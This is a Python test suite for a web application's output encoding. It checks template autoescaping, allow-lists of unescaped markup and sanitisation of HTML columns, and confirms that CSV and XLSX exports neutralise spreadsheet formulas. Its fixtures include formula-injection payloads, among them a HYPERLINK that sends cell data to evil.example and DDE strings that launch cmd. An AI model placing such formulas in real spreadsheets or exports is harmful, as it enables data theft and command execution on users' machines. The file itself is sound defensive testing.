"""Output encoding: every template autoescapes, markup is marked safe only where it was
sanitised, and spreadsheet cells (audit CSV, summary CSV and XLSX) never start a formula."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import timedelta
from pathlib import Path

from openpyxl import load_workbook

from app import markdown
from app.audit.service import record
from app.db import utcnow
from app.exports.cells import FORMULA_STARTS
from app.vocabulary import Group, PlatformRole, RoundStatus, Stance, Visibility
from app.web import TEMPLATES_DIR, templates
from tests import factories
from tests.security.xss import PAYLOADS, executable_markup

APP_DIR = Path(__file__).resolve().parents[2] / "app"

#: Template expressions allowed to bypass escaping, each with why it is safe.
UNESCAPED_IN_TEMPLATES = {
    ("rounds/consultation.html", "brief_html|markup"): "markdown.render (nh3) in the route",
    ("positions/_form.html", "stale.statement_html|markup"): "sanitised when written",
    ("rounds/briefs.html", "round.brief|markdown"): "the markdown filter sanitises",
    ("rounds/_outcome.html", "round.outcome|markdown"): "the markdown filter sanitises",
    ("positions/history.html", "version.statement|markdown"): "the markdown filter sanitises",
    ("summaries/_findings.html", "summary.outcome|markdown"): "the markdown filter sanitises",
    ("drafts/_draft.html", "p.text|markdown"): "the markdown filter sanitises",
    ("drafts/_summary.html", "p.text|markdown"): "the markdown filter sanitises",
    ("summaries/report.html", "s.statement|markdown"): "the markdown filter sanitises",
    ("drafts/edit.html", "paragraph|markdown"): "the markdown filter sanitises",
    ("bodies/show.html", "body.mandate|markdown"): "the markdown filter sanitises",
    ("meetings/show.html", "item.description|markdown"): "the markdown filter sanitises",
    ("meetings/show.html", "view.item.description|markdown"): "the markdown filter sanitises",
    ("minutes/page.html", "c.text|markdown"): "the markdown filter sanitises",
    ("minutes/page.html", "item.text|markdown"): "the markdown filter sanitises",
    ("minutes/page.html", "minutes.preamble|markdown"): "the markdown filter sanitises",
    ("caucus/_post.html", "message.body_html|markup"): "sanitised when written",
    ("caucus/_statement.html", "draft.text_html|markup"): "sanitised when written",
    ("caucus/_statement.html", "statement.text_html|markup"): "sanitised when written",
    ("caucus/_group_statements.html", "statement.text_html|markup"): "sanitised when written",
    ("cycle/_report_body.html", "s.outcome|markdown"): "the markdown filter sanitises",
}
#: Python lines that mark a string as safe HTML, each with why it is safe.
MARKUP_IN_CODE = {
    ("web.py", 'return Markup(value or "")'): "trusted_html: *_html columns, sanitised",
    ("web.py", 'return Markup(markdown.render(value or ""))'): "the markdown filter",
    (
        "web.py",
        'return Markup("<bdi>%s</bdi>") % ("" if value is None else value)',
    ): "the bdi filter: a literal element around the escaped value",
    ("rounds/page.py", "Markup(markdown.render_cached(brief.text)),"): "sanitised here",
    (
        "exports/pdf.py",
        'return Markup(quoted % {"page": \'" counter(page) "\', "pages": \'" counter(pages) "\'})',
    ): "a translation escaped for a CSS string, and two counters",
    ("rounds/page.py", "Markup(row.statement_html),"): "sanitised when written",
    (
        "rounds/page.py",
        'Markup(r.body_html) if _may_read_text(viewer, r) else Markup(""),',
    ): "sanitised when written; empty for those who may not read it",
    ("rounds/page.py", "Markup(row.p_statement_html),"): "sanitised when written",
    (
        "rounds/fragments.py",
        "cached = (Markup(html), CSRF_PLACEHOLDER in html)",
    ): "a rendered (autoescaped) template",
    (
        "rounds/fragments.py",
        "out[name] = Markup(fragment.replace(CSRF_PLACEHOLDER, token)) if has_forms else fragment",
    ): "a rendered template, with the signed CSRF token (URL-safe characters) put in",
    ("web.py", "return Markup(html)"): "out_of_band: a rendered template, unchanged",
    (
        "web.py",
        'return Markup(escaped.replace(_FSI, "").replace(_PDI, ""))',
    ): "confirmation_html: escaped text, <bdi> around its isolated names",
    (
        "web.py",
        "return Markup(html[: found.end()] + ' hx-swap-oob=\"true\"' + html[found.end() :])",
    ): "out_of_band: a rendered template, one attribute added after its first tag's name",
    ("accounts/two_factor.py", "return Markup(svg)"): "a QR code segno draws from our own data",
    ("live/page.py", '"part": Markup(PART),'): "a constant HTML comment between a stream's parts",
}
#: Columns holding HTML shown unescaped: they may be written only from markdown.render.
HTML_COLUMNS = ("statement_html", "body_html", "brief_html", "text_html")


def test_the_template_environment_escapes_every_template():
    assert templates.env.autoescape is True  # not a function of the name: every template
    rendered = templates.env.from_string("{{ value }}").render(value="<script>x</script>")
    assert rendered == "&lt;script&gt;x&lt;/script&gt;"
    for path in sorted(TEMPLATES_DIR.rglob("*.html")):
        source = path.read_text()
        assert not re.search(r"{%-?\s*autoescape\s+false", source), path
        assert not re.search(r"\|\s*safe\b", source), f"|safe in {path}"
        templates.env.get_template(str(path.relative_to(TEMPLATES_DIR)))  # compiles


def test_unescaped_output_in_templates_is_only_sanitised_html():
    found = set()
    for path in sorted(TEMPLATES_DIR.rglob("*.html")):
        name = str(path.relative_to(TEMPLATES_DIR))
        for expression in re.findall(r"{{-?\s*(.*?)\s*-?}}", path.read_text()):
            if re.search(r"\|\s*(markup|markdown)\b", expression):
                found.add((name, re.sub(r"\s+", "", expression)))
    allowed = {(name, re.sub(r"\s+", "", e)) for name, e in UNESCAPED_IN_TEMPLATES}
    assert found <= allowed, f"unescaped output not on the allow-list: {sorted(found - allowed)}"
    assert allowed <= found, f"allow-list entries no longer used: {sorted(allowed - found)}"


def test_markup_in_code_is_only_sanitised_or_rendered_html():
    found = set()
    for path in sorted(APP_DIR.rglob("*.py")):
        for line in path.read_text().splitlines():
            if re.search(r"\bMarkup\(", line) and "def " not in line:
                found.add((str(path.relative_to(APP_DIR)), line.strip()))
    assert found <= MARKUP_IN_CODE.keys(), (
        f"Markup(...) not on the allow-list: {sorted(found - MARKUP_IN_CODE.keys())}"
    )


def test_html_columns_are_written_only_from_the_markdown_sanitiser():
    """Every ``*_html`` value written in the app comes from ``markdown.render`` (directly, or
    through a variable assigned from it in the same function)."""
    problems = []
    for path in sorted(APP_DIR.rglob("*.py")):
        tree = ast.parse(path.read_text())
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef):
                continue
            sanitised = {
                target.id
                for node in ast.walk(function)
                if isinstance(node, ast.Assign) and _is_render(node.value)
                for target in node.targets
                if isinstance(target, ast.Name)
            }
            for node in ast.walk(function):
                writes = []
                if isinstance(node, ast.keyword) and node.arg in HTML_COLUMNS:
                    writes.append(node.value)
                if isinstance(node, ast.Assign):
                    writes += [
                        node.value
                        for t in node.targets
                        if isinstance(t, ast.Attribute) and t.attr in HTML_COLUMNS
                    ]
                for value in writes:
                    ok = _is_render(value) or (
                        isinstance(value, ast.Name) and value.id in sanitised
                    )
                    if not ok:
                        problems.append(f"{path.relative_to(APP_DIR)}:{value.lineno}")
    assert not problems, f"*_html written from something else than markdown.render: {problems}"


def _is_render(node: ast.AST) -> bool:
    return (
        isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in ("render", "render_cached")
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id == "markdown"
    )


def test_the_markdown_sanitiser_leaves_nothing_executable():
    for payload in PAYLOADS:
        html = markdown.render(payload)
        assert not executable_markup(html), (payload, html)
        assert "<script" not in html.lower(), html


# -- spreadsheets --------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def _unsafe(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


def _formula_round(db):
    """A closed round whose organisations, people, statements, comments and moderation
    reasons all start like formulas (names written as stored: tab and CR kept)."""
    orgs = {
        g: factories.organisation(db, g, name=f"{FORMULAS[i]} org") for i, g in enumerate(Group)
    }
    reps = {
        g: factories.member(db, orgs[g], name=f"{FORMULAS[i + 3]} person")
        for i, g in enumerate(Group)
    }
    round_ = factories.consultation_round(
        db,
        orgs.values(),
        status=RoundStatus.CLOSED,
        opens_at=utcnow() - timedelta(days=5),
        closes_at=utcnow() - timedelta(days=1),
    )
    round_.outcome = "=1+1 agreed"
    for i, g in enumerate(Group):
        factories.position(db, round_, orgs[g], reps[g], Stance.OPPOSE, FORMULAS[i])
    for i, formula in enumerate(FORMULAS):
        g = list(Group)[i % 3]
        comment = factories.comment(db, round_, reps[g], orgs[g], formula)
        if i == 0:
            comment.visibility = Visibility.HIDDEN.value
            comment.moderation_reason = '=HYPERLINK("http://evil.example")'
    return round_, reps


def test_summary_csv_and_xlsx_neutralise_formulas(make_client, db):
    round_, reps = _formula_round(db)
    moderator = factories.user(db, platform_role=PlatformRole.MODERATOR)
    for person in (moderator, reps[Group.WORKERS]):  # the moderators' and the public export
        browser = factories.signed_in(make_client, db, person)
        response = browser.get(f"/rounds/{round_.id}/summary.csv")
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert len(rows) > len(FORMULAS)
        bad = [cell for row in rows for cell in row if _unsafe(cell)]
        assert not bad, bad
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)

        response = browser.get(f"/rounds/{round_.id}/summary.xlsx")
        assert response.status_code == 200, response.text
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
        bad = [(c.parent.title, c.coordinate, c.value) for c in cells if _unsafe(c.value)]
        assert not bad, bad


def test_audit_csv_neutralises_formulas(make_client, db):
    for formula in FORMULAS:
        actor = factories.user(db, name=f"{formula} actor")
        record(db, actor.id, "round.extended", "round", 1, reason=formula)
    observer = factories.signed_in(
        make_client, db, factories.user(db, platform_role=PlatformRole.OBSERVER)
    )
    response = observer.get("/audit?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) > len(FORMULAS)
    bad = [cell for row in rows for cell in row if _unsafe(cell)]
    assert not bad, bad
    assert sum(cell.startswith("'") and "actor" in cell for row in rows for cell in row) == len(
        FORMULAS
    )
